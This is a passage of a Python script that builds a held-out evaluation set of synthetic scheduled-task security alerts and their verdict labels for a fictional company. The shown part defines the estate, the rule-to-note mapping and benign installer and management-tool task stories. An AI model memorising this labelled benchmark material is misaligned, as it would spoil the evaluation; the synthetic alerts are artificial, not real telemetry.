#!/usr/bin/env python3
"""Generate the Tunebench HELD-OUT evaluation set (T1053 alerts, two weeks, the fictional nordhafen.example).

Writes, next to this script:
  holdout_splunk_notables.csv     Splunk ES Incident Review export (ESCU correlation searches)
  holdout_elastic_alerts.ndjson   Elastic Security alert hits ({"_index","_id","_source"} per line)
  holdout_chainsaw_sigma.jsonl    Chainsaw `hunt --jsonl` output of SigmaHQ rules over collected .evtx files
  labels.csv                      verdict + LoFP note ids per record of the three files above

Standard library only, no network, fixed seed: two runs give byte-identical files.

The framework (event model, Task Scheduler XML, the re-implemented ESCU/Elastic rule logic and the Splunk/Elastic
renderers) is imported from ../evaluation/generate_evaluation.py as a module and re-targeted at a new estate; the
Chainsaw renderer and the Sigma rule logic are new. The estate, software, management tools, admins and attack
stories were written from vendor documentation, field practice, Atomic Red Team tests and public threat reports.
Neither resources/knowledge/, models/explain/ nor docs/EXPLANATIONS.md was read while writing this set.

Benign notes are given by one rubric (NOTE_FIT below): each benign story names its cause (installer, vendor
updater, software deployment by a management tool, management script, admin work, Group Policy, Linux package
manager, configuration management, OS automation, CI/GitOps), and each rule lists which of its carried LoFP notes
explain which cause. A rule whose notes fit none of the causes gives an empty note list. Note ids are t1053-NN,
NN = position of the sentence in the LoFP t1053 seed (line 6 of the seed = t1053-01).
"""

import csv
import importlib.util
import json
import os
import random
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location(
    "generate_evaluation", os.path.join(HERE, "..", "evaluation", "generate_evaluation.py"))
fw = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(fw)

# ----------------------------------------------------------------------------------------------
# Re-target the framework: a new organisation, zone, period and seed
# ----------------------------------------------------------------------------------------------

SEED = 20270301
fw.rng = rng = random.Random(SEED)
fw.TZ = TZ = timezone(timedelta(hours=1))            # CET; the set ends before the 2027-03-28 DST change
fw.START_DAY = datetime(2027, 3, 1, tzinfo=TZ)        # Monday; the set covers 2027-03-01 .. 2027-03-14
fw.NDAYS = NDAYS = 14
PATCH_TUESDAY = 8                                     # 2027-03-09
fw.DOMAIN = DOMAIN = "nordhafen.example"
fw.NETBIOS = NETBIOS = "NORDHAFEN"
fw.SID_BASE = "S-1-5-21-3620418977-1270043618-2951736504"
fw.EXPORT_TIME = datetime(2027, 3, 15, 9, 20, tzinfo=TZ)
fw.KIBANA_VERSION = "8.18.1"
fw.ALERT_INDEX = ".internal.alerts-security.alerts-default-000009"
fw.SEC_IDX = ".ds-logs-system.security-default-2027.03.01-000044"
fw.PROC_IDX = ".ds-logs-endpoint.events.process-default-2027.03.01-000061"
fw.FILE_IDX = ".ds-logs-endpoint.events.file-default-2027.03.01-000052"
fw.REG_IDX = ".ds-logs-endpoint.events.registry-default-2027.03.01-000049"
fw.LIB_IDX = ".ds-logs-endpoint.events.library-default-2027.03.01-000047"
ANALYSTS = ["fwagner", "dbakker", "ylindqvist"]
fw.ANALYSTS = ANALYSTS

# Salt every deterministic id so that no notable, alert, GUID or host id equals one of the first set's.
_det_hex, _det_uuid = fw.det_hex, fw.det_uuid
fw.det_hex = lambda *p, n=32: _det_hex("nordhafen", *p, n=n)
fw.det_uuid = lambda *p, upper=False: _det_uuid("nordhafen", *p, upper=upper)
det_hex, det_uuid, det_guid = fw.det_hex, fw.det_uuid, fw.det_guid_braced

at, work_time, later, boundary, ps_enc = fw.at, fw.work_time, fw.later, fw.boundary, fw.ps_enc
task_xml, trig_logon, trig_boot, trig_daily, trig_weekly, trig_once, trig_repeat = (
    fw.task_xml, fw.trig_logon, fw.trig_boot, fw.trig_daily, fw.trig_weekly, fw.trig_once, fw.trig_repeat)
proc, task4698, lproc, lfile, wfile, k8s, share5145 = (fw.proc, fw.task4698, fw.lproc, fw.lfile, fw.wfile, fw.k8s,
                                                       fw.share5145)
duser, machine, prim, usid, SYSTEM = fw.duser, fw.machine, fw.prim, fw.usid, fw.SYSTEM
PS, SCHT, CMD, SVCHOST, SCHED_SVC = fw.PS, fw.SCHT, fw.CMD, fw.SVCHOST, fw.SCHED_SVC
rand_letters = fw.rand_letters


_OWNERS = {"ncho": "dbakker", "mfischer": "fwagner"}  # the framework names the first SOC's analysts
_triage_state = fw.triage_state


def triage_state(verdict, day):
    state, owner = _triage_state(verdict, day)
    return state, _OWNERS.get(owner, owner)


fw.triage_state = triage_state

# ----------------------------------------------------------------------------------------------
# The estate: nordhafen.example (Hamburg "hh" and Rotterdam "rt")
# ----------------------------------------------------------------------------------------------

WKS_PLAN = (  # (host, primary user, OS, hardware vendor)
    [("hh-nb-%03d" % (101 + i), u, "Windows 11 Enterprise", "lenovo") for i, u in enumerate(
        ["akoch", "bschulz", "cvogel", "dkrause", "eneumann", "fzimmer", "gbraun", "hhartmann", "ilange", "jwerner",
         "kschmitt", "lmeyer", "mfranke", "nroth", "obeck", "pkeller", "qlorenz", "rhahn", "sjung", "tpohl"])]
    + [("hh-pc-%03d" % (201 + i), u, "Windows 10 Enterprise" if i % 4 == 0 else "Windows 11 Enterprise", "dell")
       for i, u in enumerate(["ufuchs", "vpeters", "wsauer", "xarnold", "ywolff", "zbauer", "aengel", "bhorn"])]
    + [("rt-nb-%03d" % (301 + i), u, "Windows 11 Enterprise", "hp") for i, u in enumerate(
        ["ddejong", "evisser", "fsmit", "gmulder", "hbos", "ivos", "jdekker", "kmeijer", "ldegroot", "mjansen"])]
    + [("hh-cad-%02d" % (1 + i), u, "Windows 11 Pro for Workstations", "dell-nvidia") for i, u in
       enumerate(["nsommer", "oricht", "pwinter", "qberg"])])
ADMINS = ["a-jhansen", "a-mvisser", "a-lbrandt", "a-sokoro"]
SERVICE = ["svc-veeam", "svc-tms", "svc-sqlagent"]
USERS = [u for _, u, _, _ in WKS_PLAN] + ADMINS + [a[2:] for a in ADMINS] + SERVICE
fw.USER_RID = {u: 2100 + 11 * i + (i * i) % 7 for i, u in enumerate(USERS)}

fw.HOSTS.clear()
HOSTS = fw.HOSTS
fw.LINUX_OS.update({"ubuntu24": ("Ubuntu", "debian", "24.04.2"), "ubuntu22": ("Ubuntu", "debian", "22.04.5"),
                    "alma": ("AlmaLinux", "rhel", "9.5"), "debian": ("Debian GNU/Linux", "debian", "12")})
for i, (n, u, osn, vendor) in enumerate(WKS_PLAN):
    net = "10.70.12" if n.startswith("rt") else "10.60.%d" % (40 + i // 40)
    fw._host(n, "wks", osn, "%s.%d" % (net, 20 + (i * 5) % 230), primary=u, vendor=vendor)
for n, ip in (("hh-paw-01", "10.60.5.11"), ("hh-paw-02", "10.60.5.12")):
    fw._host(n, "jump", "Windows 11 Enterprise", ip)
SERVERS = {"hh-fs-01": ("10.60.20.31", "Windows Server 2022 Standard"),
           "hh-sql-01": ("10.60.20.51", "Windows Server 2022 Standard"),
           "hh-sql-02": ("10.60.20.52", "Windows Server 2019 Standard"),
           "hh-tms-01": ("10.60.20.41", "Windows Server 2022 Standard"),
           "hh-tms-02": ("10.60.20.42", "Windows Server 2022 Standard"),
           "hh-rds-01": ("10.60.20.61", "Windows Server 2022 Datacenter"),
           "hh-print-01": ("10.60.20.71", "Windows Server 2019 Standard"),
           "hh-veeam-01": ("10.60.20.81", "Windows Server 2022 Standard"),
           "hh-tan-01": ("10.60.20.91", "Windows Server 2022 Standard"),
           "hh-legacy-01": ("10.60.20.99", "Windows Server 2012 R2 Standard"),
           "rt-fs-01": ("10.70.20.31", "Windows Server 2019 Standard"),
           "rt-edi-01": ("10.70.20.41", "Windows Server 2022 Standard")}
for n, (ip, osn) in SERVERS.items():
    fw._host(n, "server", osn, ip)
for n, ip in (("hh-dc-01", "10.60.20.10"), ("hh-dc-02", "10.60.20.11"), ("rt-dc-01", "10.70.20.10")):
    fw._host(n, "dc", "Windows Server 2022 Datacenter", ip)
LINUX_PLAN = [("hh-lx-web01", "10.60.30.11", "ubuntu24"), ("hh-lx-web02", "10.60.30.12", "ubuntu24"),
              ("hh-lx-web03", "10.60.30.13", "ubuntu24"), ("hh-lx-salt01", "10.60.30.5", "ubuntu24"),
              ("hh-lx-jenkins01", "10.60.30.40", "ubuntu22"), ("hh-lx-db01", "10.60.30.21", "alma"),
              ("hh-lx-db02", "10.60.30.22", "alma"), ("hh-lx-proxy01", "10.60.30.31", "alma"),
              ("hh-lx-mon01", "10.60.30.51", "debian"), ("rt-lx-edi01", "10.70.30.11", "debian"),
              ("rt-lx-sftp01", "10.70.30.12", "debian")]
for n, ip, fam in LINUX_PLAN:
    fw._host(n, "linux", fw.LINUX_OS[fam][0], ip, family=fam)

WKS = [h for h in HOSTS if HOSTS[h]["kind"] == "wks"]
PAW = ["hh-paw-01", "hh-paw-02"]
WIN_SERVERS = list(SERVERS)
LINUX = [h for h, _, _ in LINUX_PLAN]
DEB_LINUX = [h for h in LINUX if HOSTS[h]["family"] in ("ubuntu24", "ubuntu22", "debian")]
RPM_LINUX = [h for h in LINUX if HOSTS[h]["family"] == "alma"]
SALT_HOSTS = [h for h in LINUX if h.startswith("hh-")]
CHEF_HOSTS = [h for h in LINUX if h.startswith("rt-")]


def grp(prefix):
    return [h for h in WKS if h.startswith(prefix)]


def fqdn(h):
    return "%s.%s" % (h, DOMAIN)


# ----------------------------------------------------------------------------------------------
# Stories, causes and the note rubric
# ----------------------------------------------------------------------------------------------

WIN_CAUSES = {"install", "updater", "deploy", "mgmt", "admin", "gpo", "gpo_remote"}
LIN_CAUSES = {"pkg", "cm", "admin", "auto"}
ALL = WIN_CAUSES | LIN_CAUSES | {"k8s"}

# rule -> {cause: [note ids that explain a benign event of that cause]}; absent cause = no carried note fits
NOTE_FIT = {
    # Splunk ESCU
    "Windows Schtasks Create Run As System": {c: [18] for c in ("install", "updater", "deploy", "mgmt")},
    "Windows Scheduled Task with Highest Privileges": {c: [15] for c in ("install", "updater", "deploy", "mgmt")},
    "Schtasks scheduling job on remote system": {c: [42] for c in ("admin", "mgmt")},
    "Scheduled Task Initiation on Remote Endpoint": {"admin": [7]},
    "Schtasks Run Task On Demand": {"admin": [10]},
    "Scheduled Task Deleted Or Created via CMD": {c: [41] for c in ("admin", "mgmt", "deploy")},
    "Suspicious Scheduled Task from Public Directory": {c: [37] for c in WIN_CAUSES},
    "Schtasks used for forcing a reboot": {c: [38] for c in ("admin", "mgmt", "deploy")},
    "WinEvent Scheduled Task Created to Spawn Shell": {c: [13] for c in WIN_CAUSES},
    "Windows Scheduled Task Created Via XML": {c: [21] for c in ("admin", "mgmt", "deploy")},
    "Svchost LOLBAS Execution Process Spawn": {c: [24] for c in WIN_CAUSES},
    "Linux Add Files In Known Crontab Directories": {c: [2] for c in LIN_CAUSES},
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": {c: [14] for c in ("admin", "cm", "auto")},
    "Linux Edit Cron Table Parameter": {"admin": [4]},
    "Linux Possible Cronjob Modification With Editor": {"admin": [5]},
    "Linux At Allow Config File Creation": {c: [3] for c in ("admin", "cm")},
    "Linux Service File Created In Systemd Directory": {c: [16] for c in ("admin", "cm", "pkg")},
    "Linux Service Started Or Enabled": {c: [5] for c in LIN_CAUSES},
    "Linux Service Restarted": {c: [5] for c in LIN_CAUSES},
    "Linux At Application Execution": {"admin": [4]},
    # Elastic prebuilt
    "A scheduled task was created": {c: [29] for c in ("install", "updater", "deploy")},
    "A scheduled task was updated": {c: [29] for c in ("install", "updater", "deploy")},
    "Temporarily Scheduled Task Creation": {c: [29] for c in ("install", "updater", "deploy")},
    "Local Scheduled Task Creation": {c: [29] for c in ("install", "updater", "deploy")},
    "Scheduled Task Created by a Windows Script": {c: [29] for c in ("install", "updater", "deploy")},
    "Persistence via Scheduled Job Creation": {c: [28] for c in ("install", "updater", "deploy")},
    "Suspicious Execution via Scheduled Task": {c: [30] for c in ("install", "updater", "deploy", "mgmt")},
    "Potential Persistence via Cron Job": {c: [32] for c in LIN_CAUSES},
    # SigmaHQ (Chainsaw)
    "Scheduled Task Creation Via Schtasks.EXE": {"admin": [1], "mgmt": [1], "install": [33], "updater": [33],
                                                 "deploy": [33]},
    "Suspicious Scheduled Task Creation Involving Temp Folder": {"admin": [1], "mgmt": [1], "install": [33],
                                                                 "updater": [33], "deploy": [33]},
    "Suspicious Schtasks From Env Var Folder": {"install": [11], "deploy": [11], "updater": [35]},
    "Suspicious Scheduled Task Name As GUID": {c: [31] for c in ("install", "updater", "deploy")},
    "Uncommon One Time Only Scheduled Task At 00:00": {c: [33] for c in ("install", "deploy")},
    "Suspicious Schtasks Schedule Types": {},  # note 27 (logon-time processes): decided per event, see note_fit()
    "Suspicious Schtasks Schedule Type With High Privileges": {c: [36] for c in ("install", "updater", "deploy")},
    "Suspicious Command Patterns In Scheduled Task Creation": {"install": [34]},
    "Scheduled Task Executed Uncommon LOLBIN": {c: [17] for c in WIN_CAUSES},
    "Persistence and Execution at Scale via GPO Scheduled Task": {"gpo": [20]},
}


def story(verdict, scenario, cause=None, **overrides):
    """overrides: Rule_Title_With_Underscores=[note ids] replaces the rubric for that rule."""
    if verdict == "benign" and cause not in ALL:
        raise SystemExit("benign story %r needs a cause" % scenario)
    return dict(verdict=verdict, scenario=scenario, cause=cause,
                notes={k.replace("_", " "): v for k, v in overrides.items()})


def benign(cause, scenario, **overrides):
    return story("benign", scenario, cause, **overrides)


def bad(scenario):
    return story("malicious", scenario)


def emit(e, st):
    e["story"] = dict(st, notes=dict(st["notes"]))
    e["seq"] = len(fw.EVENTS)
    fw.EVENTS.append(e)
    return e


def note_fit(rule, e):
    st = e["story"]
    if rule == "Suspicious Schtasks Schedule Types":
        return [27] if " onlogon " in (e.get("cmdline", "") + " ").lower() else []
    return NOTE_FIT.get(rule, {}).get(st["cause"], [])


def task_run(host, when, user, image, cmdline, task_name, integrity="medium", original=None):
    """A task's action started by the Task Scheduler service (Sysmon 1 / endpoint process + TaskScheduler 129)."""
    e = fw.scheduled_run(host, when, user, image, cmdline, original=original, integrity=integrity)
    e["task_name"] = task_name
    return e


def sched(host, when, user, cmdline, parent_image, parent_cmdline, integrity="high", **kw):
    return proc(host, when, user, SCHT, cmdline, parent_image, parent_cmdline, integrity=integrity, **kw)


# ----------------------------------------------------------------------------------------------
# Benign: vendor installers and updaters (Windows)
# ----------------------------------------------------------------------------------------------

CHROME_VER = "133.0.6943.54"


def b_chrome_system(host, day):
    """Chrome enterprise installer run elevated by a local-admin user: the new GoogleUpdater registers its wake task."""
    u, t = prim(host), work_time(day)
    name = "\\GoogleSystem\\GoogleUpdater\\GoogleUpdaterTaskSystem%s%s" % (CHROME_VER, det_guid("gupd", host))
    exe = "C:\\Program Files (x86)\\Google\\GoogleUpdater\\%s\\updater.exe" % CHROME_VER
    x = task_xml(t, None, name, [trig_logon(), trig_repeat(boundary(t, t.hour, t.minute, 0), "PT1H")], '"%s"' % exe,
                 "--wake --system", user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable",
                 description="GoogleUpdater Task System %s" % CHROME_VER)
    emit(task4698(host, t, duser(u), name, x),
         benign("install", "Google Chrome installer (elevated user) registers GoogleUpdaterTaskSystem wake task"))


def b_chrome_user(host, day):
    """Per-user Chrome (Omaha in AppData\\Local\\Google\\Update): Core and UA tasks named with the user's SID."""
    u, t = prim(host), work_time(day)
    for i, kind in enumerate(("Core", "UA")):
        name = "\\GoogleUpdateTaskUser%s%s" % (usid(u), kind + det_guid("gu", host, kind))
        exe = "C:\\Users\\%s\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe" % u
        trig = [trig_logon(), trig_daily(boundary(t, t.hour, t.minute, 0))] if kind == "Core" else \
            [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT1H")]
        x = task_xml(t, None, name, trig, '"%s"' % exe, "/c" if kind == "Core" else "/ua /installsource scheduler",
                     user_id=usid(u), logon_type="InteractiveToken",
                     description="Keeps your Google software up to date. If this task is disabled or stopped, your "
                                 "Google software will not be kept up to date.")
        emit(task4698(host, t + timedelta(milliseconds=400 + 600 * i), duser(u), name, x),
             benign("updater", "per-user Google Update (AppData) registers GoogleUpdateTaskUser<SID> Core/UA"))


FF_HASH = "308046B0AF4A39CB"


def b_firefox(host, day):
    """Firefox registers its background-update task for the user at first run after install or update."""
    u, t = prim(host), work_time(day)
    name = "\\Mozilla\\Firefox Background Update %s" % FF_HASH
    x = task_xml(t, "Mozilla", name, [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT7H")],
                 "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                 "--MOZ_LOG sync,prependheader,timestamp,append,maxsize:1,Dump:5 --MOZ_LOG_FILE "
                 "C:\\ProgramData\\Mozilla-1de4eec8-1241-4177-a864-e594e8d1fb38\\updates\\%s\\backgroundupdate.moz_log "
                 "--backgroundtask backgroundupdate" % FF_HASH, user_id=usid(u), logon_type="InteractiveToken",
                 description="The Background Update task checks for updates to Firefox when Firefox is not running.")
    emit(task4698(host, t, duser(u), name, x),
         benign("updater", "Firefox first run registers '\\Mozilla\\Firefox Background Update' for the user"))


def b_dropbox(host, day):
    u, t = prim(host), work_time(day)
    for i, kind in enumerate(("Core", "UA")):
        name = "\\DropboxUpdateTaskMachine%s%s" % (kind, det_guid("dbx", host, kind))
        x = task_xml(t, None, name, [trig_logon(), trig_daily(boundary(t, t.hour, t.minute, 0))] if kind == "Core"
                     else [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT1H")],
                     '"C:\\Program Files (x86)\\Dropbox\\Update\\DropboxUpdate.exe"',
                     "/c" if kind == "Core" else "/ua /installsource scheduler", user_id="S-1-5-18",
                     logon_type="ServiceAccount", run_level="HighestAvailable",
                     description="Keeps your Dropbox software up to date.")
        emit(task4698(host, t + timedelta(milliseconds=300 + 800 * i), duser(u), name, x),
             benign("install", "Dropbox installer (Omaha-based DropboxUpdate) registers machine Core/UA tasks"))


NV = "{B2FE1952-0186-46C3-BAEC-A80AA35AC5B8}"


def b_nvidia(host, day):
    """NVIDIA Studio driver + app on CAD workstations: GUID-suffixed tasks, setup.exe from C:\\NVIDIA\\DisplayDriver."""
    u, t = prim(host), work_time(day)
    nvc = "C:\\Program Files\\NVIDIA Corporation"
    for i, (name, cmd, args, uid) in enumerate((
            ("\\NvTmRepOnLogon_" + NV, '"%s\\NvTmRep\\NvTmRep.exe"' % nvc, "--logon", usid(u)),
            ("\\NvNodeLauncher_" + NV, '"%s\\NvNode\\NVIDIA Web Helper.exe"' % nvc, "index.js", usid(u)),
            ("\\NvProfileUpdaterOnLogon_" + NV, '"%s\\Update Core\\NvProfileUpdater64.exe"' % nvc, "/logon",
             "S-1-5-18"))):
        x = task_xml(t, "NVIDIA Corporation", name, [trig_logon()], cmd, args, user_id=uid,
                     logon_type="ServiceAccount" if uid == "S-1-5-18" else "InteractiveToken")
        emit(task4698(host, t + timedelta(milliseconds=450 * (i + 1)), duser(u), name, x),
             benign("install", "NVIDIA Studio driver install registers Nv* logon tasks (%s)" % NV))


def b_intel_sur(host, day):
    """Intel Computing Improvement Program (SUR) MSI custom action, as SYSTEM, creates its ONSTART task."""
    t = work_time(day)
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /create /tn "USER_ESRV_SVC_QUEENCREEK" /tr '
           '"\\"C:\\Program Files\\Intel\\SUR\\QUEENCREEK\\x64\\esrv_svc.exe\\" --start" /sc onstart /ru SYSTEM '
           '/rl highest /f')
    emit(sched(host, t, SYSTEM, cmd, "C:\\Windows\\SysWOW64\\msiexec.exe",
               "C:\\Windows\\syswow64\\MsiExec.exe -E -Embedding 3C4F2B1A9D0E8F7C6B5A4D3E2F1C0B9A",
               integrity="system"),
         benign("install", "Intel Computing Improvement Program MSI (SYSTEM custom action) creates USER_ESRV_SVC_QUEENCREEK"))


def b_lenovo_su(host, day):
    """Lenovo System Update (Inno Setup, %TEMP%\\is-*.tmp) imports TVSUUpdateTask from its XML in Program Files."""
    u, t = prim(host), work_time(day)
    isdir = "C:\\Users\\%s\\AppData\\Local\\Temp\\is-%s.tmp" % (u, rand_letters("inno", host, n=5).upper())
    sc = "Lenovo System Update installer (Inno Setup in %TEMP%\\is-*.tmp) imports TVSUUpdateTask from XML"
    cmd = ('"C:\\Windows\\System32\\schtasks.exe" /Create /TN "TVSUUpdateTask" /XML '
           '"C:\\Program Files (x86)\\Lenovo\\System Update\\TVSUUpdateTask.xml" /F')
    emit(sched(host, t, duser(u), cmd, isdir + "\\system_update_5.08.03.59.tmp",
               '"%s\\system_update_5.08.03.59.tmp" /SL5="$40A2C,8821734,832512,C:\\Users\\%s\\Downloads\\'
               'system_update_5.08.03.59.exe" /VERYSILENT /NORESTART' % (isdir, u), parent_signer="Lenovo"),
         benign("install", sc))
    x = task_xml(t, "Lenovo", "\\TVSUUpdateTask", [trig_weekly(boundary(t, 9, 0), "Monday")],
                 "C:\\Program Files (x86)\\Lenovo\\System Update\\tvsu.exe", "/CM -search A -action INSTALL -includerebootpackages 1,3,4 -noicon",
                 user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698(host, later(t, 300, 900), duser(u), "\\TVSUUpdateTask", x), benign("install", sc))


def b_teamviewer(host, day):
    """TeamViewer Host install by a support user: TVInstallRestore ONSTART task as SYSTEM, later deleted."""
    u, t = prim(host), work_time(day)
    setup = "C:\\Users\\%s\\Downloads\\TeamViewer_Host_Setup_x64.exe" % u
    sc = "TeamViewer Host installer creates (and later deletes) the TVInstallRestore task"
    cmd = ('schtasks.exe /Create /TN TVInstallRestore /TR "\\"C:\\Program Files\\TeamViewer\\TeamViewer.exe\\" '
           '--install-restore" /SC ONSTART /RU SYSTEM /F')
    emit(sched(host, t, duser(u), cmd, setup, '"%s" ' % setup, parent_signer="TeamViewer Germany GmbH"),
         benign("install", sc))
    emit(sched(host, later(t, 20000, 90000), duser(u),
               "schtasks.exe /Delete /TN TVInstallRestore /F", setup, '"%s" ' % setup,
               parent_signer="TeamViewer Germany GmbH"), benign("install", sc))


def b_klite(host, day):
    u, t = prim(host), work_time(day)
    isdir = "C:\\Users\\%s\\AppData\\Local\\Temp\\is-%s.tmp" % (u, rand_letters("klite", host, n=5).upper())
    cmd = ('schtasks /Create /TN "klcp_update" /XML "C:\\Users\\%s\\AppData\\Local\\Temp\\klcp_update_task.xml" /F' % u)
    emit(sched(host, t, duser(u), cmd, isdir + "\\K-Lite_Codec_Pack_1875_Basic.tmp",
               '"%s\\K-Lite_Codec_Pack_1875_Basic.tmp" /SL5="$2046A,27164330,893952,C:\\Users\\%s\\Downloads\\'
               'K-Lite_Codec_Pack_1875_Basic.exe"' % (isdir, u), parent_signer="Codec Guide"),
         benign("install", "K-Lite Codec Pack installer imports its klcp_update task from an XML in %TEMP%"))


def b_tms_client(host, day):
    """In-house TMS client per-user installer registers its AppData updater task with schtasks."""
    u, t = prim(host), at(day, rng.choice([8, 9]), rng.randrange(60))
    app = "C:\\Users\\%s\\AppData\\Local\\Nordhafen\\TMSClient" % u
    cmd = ('schtasks.exe /create /tn "Nordhafen\\TMSClient Update %s" /tr "\\"%s\\TMSUpdater.exe\\" --silent" '
           '/sc daily /st 07:30 /f' % (u, app))
    emit(sched(host, t, duser(u), cmd, app + "\\Setup\\TMSClientSetup.exe",
               '"%s\\Setup\\TMSClientSetup.exe" --per-user --quiet' % app, integrity="medium",
               parent_signer="Nordhafen Logistik GmbH"),
         benign("install", "TMS client 4.2 per-user installer registers its AppData updater task",
                Suspicious_Schtasks_From_Env_Var_Folder=[11, 35]))


def b_onedrive_profile(host, day):
    u, t = prim(host), at(day, rng.choice([8, 9, 10]), rng.randrange(60))
    name = "\\OneDrive Startup Task-%s" % usid(u)
    x = task_xml(t, "Microsoft Corporation", name, [trig_logon("%s\\%s" % (NETBIOS, u))],
                 "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "/background", user_id=usid(u),
                 logon_type="InteractiveToken", description="Starts OneDrive for the signed-in user.")
    emit(task4698(host, t, duser(u), name, x),
         benign("updater", "per-machine OneDrive registers 'OneDrive Startup Task-<SID>' for a new profile"))


def b_office_telemetry(host, day):
    u, t = prim(host), at(day, rng.choice([8, 9]), rng.randrange(60))
    exe = "C:\\Program Files\\Microsoft Office\\root\\Office16\\msoia.exe"
    for i, (name, args) in enumerate((("\\Microsoft\\Office\\OfficeTelemetryAgentLogOn2016", "scan upload mininterval:2880"),
                                      ("\\Microsoft\\Office\\OfficeTelemetryAgentFallBack2016", "scan upload mininterval:2880"))):
        x = task_xml(t, "Microsoft Office", name, [trig_logon()] if "LogOn" in name else
                     [trig_daily(boundary(t, 2, 0))], exe, args, group_id="S-1-5-32-545")
        emit(task4698(host, t + timedelta(milliseconds=200 + 300 * i), duser(u), name, x),
             benign("updater", "Microsoft 365 Apps first run registers the Office telemetry agent tasks"))


def b_acrobat(host, day):
    u, t = prim(host), work_time(day)
    x = task_xml(t, "Adobe Systems Incorporated", "\\Adobe Acrobat Update Task",
                 [trig_logon(), trig_daily(boundary(t, 12, 0, 0))],
                 "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe", None, group_id="S-1-5-4",
                 description="This task keeps your Adobe Reader and Acrobat applications up to date with the latest "
                             "enhancements and security fixes")
    emit(task4698(host, t, duser(u), "\\Adobe Acrobat Update Task", x),
         benign("install", "Adobe Acrobat Reader install (elevated user) registers Adobe Acrobat Update Task"))


def b_vendor_guid(host, day):
    """Dell Display and Peripheral Manager's installer names its update task with a GUID (schtasks /TN {GUID})."""
    u, t = prim(host), work_time(day)
    g = det_guid("ddpm", host)
    tmp = "C:\\Users\\%s\\AppData\\Local\\Temp\\{%s}" % (u, det_uuid("ddpm-tmp", host).upper())
    cmd = ('schtasks.exe /Create /TN "%s" /TR "\\"C:\\Program Files\\Dell\\Dell Display and Peripheral Manager\\'
           'DDPM.Updater.exe\\" /check" /SC DAILY /ST 11:00 /RU SYSTEM /RL HIGHEST /F' % g)
    emit(sched(host, t, duser(u), cmd, tmp + "\\DDPMSetup.exe", '"%s\\DDPMSetup.exe" /S' % tmp,
               parent_signer="Dell Inc"),
         benign("install", "Dell Display and Peripheral Manager installer registers its GUID-named update task"))


# ----------------------------------------------------------------------------------------------
# Benign: management tools (Windows)
# ----------------------------------------------------------------------------------------------

TANIUM = "C:\\Program Files (x86)\\Tanium\\Tanium Client"
IME = "C:\\Program Files (x86)\\Microsoft Intune Management Extension"
BES = "C:\\Program Files (x86)\\BigFix Enterprise\\BES Client"


def b_tanium_reboot(host, day):
    """Tanium Patch deployment schedules the post-patch restart as SYSTEM."""
    t = at(day, rng.randrange(19, 22), rng.randrange(60))
    act = "%s\\Downloads\\Action_%d" % (TANIUM, 480000 + rng.randrange(9000))
    cmd = ('schtasks /create /tn "Tanium\\PatchRestart" /tr "shutdown.exe /r /f /t 900 /d p:2:17 /c \\"Tanium Patch: '
           'restart to finish installing updates\\"" /sc once /st 23:30 /ru SYSTEM /f')
    emit(sched(host, t, SYSTEM, cmd, CMD, 'cmd.exe /d /c "%s\\schedule-restart.cmd"' % act, integrity="system"),
         benign("deploy", "Tanium Patch deployment schedules a one-time post-patch restart (SYSTEM)"))


def b_tanium_script(host, day):
    """A Tanium package runs an inventory script that registers a daily task from the package folder."""
    t = at(day, rng.randrange(10, 16), rng.randrange(60))
    act = "%s\\Downloads\\Action_%d" % (TANIUM, 481000 + rng.randrange(9000))
    cmd = ('schtasks.exe /Create /TN "Nordhafen\\LocalAdminAudit" /XML "%s\\LocalAdminAudit.xml" /RU SYSTEM /F' % act)
    emit(sched(host, t, SYSTEM, cmd, CMD, 'cmd.exe /d /c "%s\\install-audit-task.cmd"' % act, integrity="system"),
         benign("mgmt", "Tanium package registers the \\Nordhafen\\LocalAdminAudit task from its XML (SYSTEM)"))


def b_bigfix_compliance(host, day):
    """BigFix fixlet (Rotterdam) registers a compliance script task that runs PowerShell from ProgramData."""
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    cmd = ('schtasks.exe /create /tn "Nordhafen\\ComplianceScan" /tr "powershell.exe -NoProfile -ExecutionPolicy '
           'Bypass -File C:\\ProgramData\\Nordhafen\\Compliance\\Get-ComplianceState.ps1" /sc daily /st 12:30 '
           '/ru SYSTEM /f')
    emit(sched(host, t, SYSTEM, cmd, CMD, 'cmd.exe /c "%s\\__BESData\\__Global\\Logs\\fixlet_9012.cmd"' % BES,
               integrity="system"),
         benign("mgmt", "BigFix fixlet registers \\Nordhafen\\ComplianceScan (PowerShell -ExecutionPolicy Bypass)"))
    x = task_xml(t, "%s\\%s$" % (NETBIOS, host.upper()), "\\Nordhafen\\ComplianceScan", [trig_daily(boundary(t, 12, 30))],
                 "powershell.exe", "-NoProfile -ExecutionPolicy Bypass -File "
                 "C:\\ProgramData\\Nordhafen\\Compliance\\Get-ComplianceState.ps1", user_id="S-1-5-18",
                 logon_type="ServiceAccount")
    emit(task4698(host, later(t), machine(host), "\\Nordhafen\\ComplianceScan", x),
         benign("mgmt", "BigFix fixlet registers \\Nordhafen\\ComplianceScan (PowerShell -ExecutionPolicy Bypass)"))


DRIVEMAP = "C:\\ProgramData\\Nordhafen\\DriveMap\\MapDrives.vbs"


def b_intune_drivemap(host, day):
    """Intune Win32 app: install script registers a logon task that runs wscript on a VBS in ProgramData."""
    t = at(day, rng.randrange(8, 18), rng.randrange(60))
    sc = "Intune Win32 app 'Drive Mapping' registers \\Nordhafen\\DriveMapping logon task (wscript, ProgramData)"
    emit(dict(kind="script_task", host=host, time=t, user=SYSTEM, image=PS, pid=fw.win_pid(),
              cmdline='"%s" -NoProfile -ExecutionPolicy Bypass -File ".\\Install-DriveMapping.ps1"' % PS,
              parent_image="%s\\AgentExecutor.exe" % IME, task_key=det_guid("dm", host)),
         benign("deploy", sc))
